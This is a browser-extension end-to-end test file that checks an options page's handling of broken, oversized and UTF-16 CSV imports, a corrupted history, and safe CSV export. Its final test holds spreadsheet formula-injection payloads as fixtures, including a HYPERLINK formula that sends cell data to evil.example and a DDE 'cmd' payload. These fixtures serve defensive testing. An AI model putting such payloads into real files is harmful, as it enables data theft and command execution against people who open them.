/**
 * Bad input in the options page loses nothing: catalog files that are broken, too big or in
 * UTF-16, a stored history with one bad entry, and track names that are spreadsheet formulas.
 * The built extension in Chromium; files go in through the page's own file input.
 */
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import type { ElementHandle, Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CATALOG_FILE_MAX_BYTES } from '../../src/shared/catalog';
import { lineOf, moodsCsv } from '../samples/catalog-csv';
import { historyEntry } from '../samples/history';
import { launchExtension, type ExtensionSession } from './harness';
import { axeProblems } from './popup-checks';

const dir = mkdtempSync(join(tmpdir(), 'mooddj-options-data-'));

function file(name: string, content: string | Uint8Array): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

/** UTF-16 with its byte-order mark, as Windows' "Unicode text" exports write it. */
function utf16(text: string, order: 'le' | 'be'): Uint8Array {
  const le = Buffer.from(`\uFEFF${text}`, 'utf16le');
  return order === 'le' ? le : le.swap16();
}

interface StoredCatalog {
  name: string;
  tracks: { title: string; artist: string }[];
}

describe('options page: bad input loses nothing', () => {
  let session: ExtensionSession;
  let options: Page;

  const storedCatalog = async () => (await options.evaluate(() => chrome.storage.local.get('catalog'))).catalog as StoredCatalog | null | undefined;
  const text = (id: string) => options.$eval(`[data-testid="${id}"]`, (e) => e.textContent?.trim() ?? '');

  /** Chooses a file in the catalog input and returns the report that replaces the last one. */
  async function importFile(path: string): Promise<{ text: string; ok: boolean }> {
    const before = await options.$eval('[data-testid="catalog-report"]', (e) => e.textContent).catch(() => null);
    const input = (await options.waitForSelector('[data-testid="catalog-file"]')) as ElementHandle<HTMLInputElement>;
    await input.uploadFile(path);
    await options.waitForFunction(
      (b) => {
        const t = document.querySelector('[data-testid="catalog-report"]')?.textContent;
        return t && t !== b;
      },
      {},
      before,
    );
    return options.$eval('[data-testid="catalog-report"]', (e) => ({ text: e.textContent?.trim() ?? '', ok: !e.classList.contains('error') }));
  }

  /** No serious or critical axe problem, in light and dark. */
  async function expectAccessible(state: string) {
    for (const scheme of ['light', 'dark']) {
      await options.emulateMediaFeatures([{ name: 'prefers-color-scheme', value: scheme }]);
      expect(await axeProblems(options), `${state} (${scheme})`).toEqual([]);
    }
    await options.emulateMediaFeatures([]);
  }

  beforeAll(async () => {
    session = await launchExtension();
    options = await session.browser.newPage();
    await options.goto(session.url('src/popup/options.html'));
    await options.waitForSelector('[data-testid="catalog-file"]');
  });
  afterAll(async () => {
    await session?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('a CSV with a broken quote keeps the previous 300-track catalog and names the line', async () => {
    const good = await importFile(file('moods-300.csv', moodsCsv(300)));
    expect(good).toEqual({ ok: true, text: 'Imported 300 tracks (with audio features).' });
    expect((await storedCatalog())?.tracks).toHaveLength(300);

    // The file: no other quotes, so a parser left alone reads the rest as one field.
    const rows = Array.from({ length: 300 }, (_, i) => `Song ${i},Band,Calm`);
    rows[2] = '"Broken quote,Band,Happy';
    const broken = ['title,artist,mood', ...rows].join('\n') + '\n';
    const report = await importFile(file('broken.csv', broken));
    expect(report.ok).toBe(false);
    expect(report.text).toMatch(new RegExp(`^Line ${lineOf(broken, 'Broken quote')} opens a quoted field .* never closed`));
    expect(report.text).toMatch(/Your previous catalog is unchanged\.$/);
    await expectAccessible('refused file');

    // Shaped like the moods file: its later quotes close the broken one a few lines on.
    const joined = moodsCsv(300).replace(/^Song 2,/m, '"Song 2,');
    const second = await importFile(file('joined.csv', joined));
    expect(second.text).toMatch(new RegExp(`^A quote on line ${lineOf(joined, '"Song 2,')} does not close where its field ends`));

    const kept = await storedCatalog();
    expect(kept?.name).toBe('moods-300.csv');
    expect(kept?.tracks).toHaveLength(300);
    expect(await text('catalog-status')).toMatch(/^300 tracks from moods-300\.csv/);
  });

  it('lists every skipped row by its line in the file, blank lines and quoted line breaks counted', async () => {
    const csv = [
      'title,artist,mood',
      '',
      'First,Band,Happy',
      '"Two',
      'lines",Band,Calm',
      '',
      'BAD1,Band,Grumpy',
      ...Array.from({ length: 30 }, (_, i) => `BAD${i + 2},,Sad`),
    ].join('\r\n');
    const report = await importFile(file('lines.csv', csv));
    expect(report.text).toMatch(/^Imported 2 tracks \(title, artist, mood\)\. Skipped 31 rows:/);
    const lines = await options.$$eval('[data-testid="catalog-skipped"] li', (items) => items.map((li) => li.textContent));
    expect(lines).toHaveLength(31);
    expect(lines[0]).toBe(`line ${lineOf(csv, 'BAD1')}: unknown mood "Grumpy" (use Happy, Sad, Energetic, Calm)`);
    expect(lines[30]).toBe(`line ${lineOf(csv, 'BAD31')}: empty title or artist`);
    await expectAccessible('skipped rows');
  });

  it('a file over the size cap is refused before it is read, and the catalog stays', async () => {
    await importFile(file('moods-300-again.csv', moodsCsv(300)));
    // Counts every way a page can read a file's bytes.
    await options.evaluate(() => {
      const w = window as unknown as { fileReads: number };
      w.fileReads = 0;
      for (const name of ['arrayBuffer', 'text', 'stream', 'slice', 'bytes'] as const) {
        const original = Blob.prototype[name as 'text'] as (...args: unknown[]) => unknown;
        if (!original) continue;
        Object.defineProperty(Blob.prototype, name, {
          configurable: true,
          value(this: Blob, ...args: unknown[]) {
            w.fileReads++;
            return original.apply(this, args);
          },
        });
      }
      const readAs = FileReader.prototype.readAsArrayBuffer;
      FileReader.prototype.readAsArrayBuffer = function (blob) {
        w.fileReads++;
        readAs.call(this, blob);
      };
    });
    const csv = moodsCsv(300);
    const big = csv + moodsCsv(Math.ceil(CATALOG_FILE_MAX_BYTES / csv.length) * 300).slice(csv.length);
    expect(big.length).toBeGreaterThan(CATALOG_FILE_MAX_BYTES);
    const report = await importFile(file('huge.csv', big));
    expect(report.text).toMatch(/^This file is \d+\.\d MB; a catalog file can be at most 5\.0 MB\. It was not read\. Your previous catalog is unchanged\.$/);
    expect(await options.evaluate(() => (window as unknown as { fileReads: number }).fileReads)).toBe(0);
    expect(await storedCatalog()).toMatchObject({ name: 'moods-300-again.csv', tracks: expect.any(Array) });
    expect((await storedCatalog())?.tracks).toHaveLength(300);
  });

  it('UTF-16 files (LE and BE, with a byte-order mark) import with their accents', async () => {
    const csv = 'title,artist,mood\r\nCafé del Mar,Björk,Calm\r\n東京,Yōko Kanno,Happy\r\nNo Surprises,Radiohead,Sad\r\n';
    for (const order of ['le', 'be'] as const) {
      // Removing the catalog clears the report, so the next one (with the same words) is seen to arrive.
      await options.click('[data-testid="catalog-remove"]');
      await options.click('[data-testid="catalog-remove-confirm"]');
      await options.waitForFunction(() => !document.querySelector('[data-testid="catalog-report"]'));
      const report = await importFile(file(`utf16-${order}.csv`, utf16(csv, order)));
      expect(report).toEqual({ ok: true, text: 'Imported 3 tracks (title, artist, mood).' });
      const stored = await storedCatalog();
      expect(stored?.name).toBe(`utf16-${order}.csv`);
      expect(stored?.tracks.map((t) => [t.title, t.artist])).toEqual([
        ['Café del Mar', 'Björk'],
        ['東京', 'Yōko Kanno'],
        ['No Surprises', 'Radiohead'],
      ]);
    }
  });

  it('a stored history with one bad entry among 500 keeps the other 499 and sets the original aside', async () => {
    const now = Date.now();
    const good = Array.from({ length: 499 }, (_, i) => historyEntry(now - (499 - i) * 60_000));
    const stored = [...good.slice(0, 250), { ...historyEntry(now - 1e6), probabilities: { happy: 'lots' } }, ...good.slice(250)];
    // Seeded with the options page closed, so the service worker is the first to read it.
    await options.goto('about:blank');
    const popup = await session.openPopup();
    await popup.evaluate((history) => chrome.storage.local.set({ history, setAside: [] }), stored);
    const state = (await popup.evaluate(() => chrome.runtime.sendMessage({ target: 'background', name: 'getState', payload: {} }))) as {
      ok: boolean;
      value: { recent: unknown[] };
    };
    await popup.close();
    expect(state.ok).toBe(true);
    expect(state.value.recent).toEqual(good);

    await options.goto(session.url('src/popup/options.html'));
    await options.waitForSelector('[data-testid="history-count"]');
    expect(await text('history-count')).toMatch(/^499 checks stored/);
    const after = (await options.evaluate(() => chrome.storage.local.get(['history', 'setAside']))) as {
      history: unknown[];
      setAside: { key: string; raw: unknown; kept: number; of: number; truncated: boolean }[];
    };
    expect(after.history).toEqual(good);
    expect(after.setAside).toEqual([{ key: 'history', at: expect.any(Number), raw: stored, truncated: false, kept: 499, of: 500 }]);
    expect(await options.$eval('[data-testid="set-aside"] li[data-key="history"]', (e) => e.textContent)).toMatch(/kept 499 of 500 items/);
    await expectAccessible('repaired data');

    await options.click('[data-testid="set-aside-discard"]');
    await options.click('[data-testid="set-aside-discard-confirm"]');
    await options.waitForFunction(() => !document.querySelector('[data-testid="set-aside"]'));
    expect((await options.evaluate(() => chrome.storage.local.get('setAside'))).setAside).toEqual([]);
  });

  it('the exported CSV neutralises cells a spreadsheet would run as formulas', async () => {
    const attacks = ['=HYPERLINK("https://evil.example/?"&A1,"Play")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    const history = attacks.map((title, i) => historyEntry(1.7e12 + i, { tracks: [{ title, artist: 'Hostile page' }], query: title }));
    await options.evaluate((h) => chrome.storage.local.set({ history: h }), history);
    await options.waitForFunction((n) => document.querySelector('[data-testid="history-count"]')?.textContent?.startsWith(`${n} checks`), {}, attacks.length);

    const downloads = join(dir, 'downloads');
    const cdp = await session.browser.target().createCDPSession();
    await cdp.send('Browser.setDownloadBehavior', { behavior: 'allow', downloadPath: downloads });
    await options.click('[data-testid="history-export-csv"]');
    const until = Date.now() + 30_000;
    let name: string | undefined;
    while (!(name = existsSync(downloads) ? readdirSync(downloads).find((f) => f.endsWith('.csv')) : undefined) && Date.now() < until) {
      await new Promise((r) => setTimeout(r, 100));
    }
    await cdp.detach();
    expect(name, 'the CSV download never arrived').toMatch(/^mooddj-history-\d{4}-\d\d-\d\d\.csv$/);
    const rows = Papa.parse<string[]>(readFileSync(join(downloads, name!), 'utf8'), { newline: '\n', skipEmptyLines: true }).data;
    const [query, tracks] = [rows[0].indexOf('query'), rows[0].indexOf('tracks')];
    expect(rows.slice(1).map((r) => [r[query], r[tracks]])).toEqual(attacks.map((a) => [`'${a}`, `'${a} - Hostile page`]));
  });
});
